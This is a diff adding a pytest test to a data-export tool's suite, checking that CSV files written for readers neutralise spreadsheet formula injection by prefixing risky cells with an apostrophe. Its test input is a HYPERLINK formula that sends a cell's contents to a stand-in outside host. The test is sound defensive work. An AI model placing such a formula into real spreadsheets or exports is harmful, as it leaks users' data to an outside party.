@@ -211,3 +211,17 @@ def test_the_command_writes_into_a_new_folder_or_refuses(
     assert main(["export", "timelinejs", "--out", str(out)]) == 1
     assert "new or empty" in capsys.readouterr().err
     assert sorted(path.name for path in tmp_path.iterdir()) == ["gexf", "out"]
+
+
+def test_no_cell_of_a_table_for_readers_is_a_formula(tables, tmp_path: Path) -> None:
+    attack = '=HYPERLINK("https://val.example/?"&A1,"x")'
+    tables["articles"]["title"] = attack
+    for format in ("txm", "csv"):
+        (tmp_path / format).mkdir()
+        for path in WRITERS[format](tables, tmp_path / format):
+            if path.suffix == ".csv":
+                with path.open(encoding="utf-8", newline="") as file:
+                    cells = [cell for row in csv.reader(file) for cell in row]
+                assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), path
+    with (tmp_path / "txm" / "metadata.csv").open(encoding="utf-8", newline="") as file:
+        assert [row["title"] for row in csv.DictReader(file)] == [f"'{attack}"]
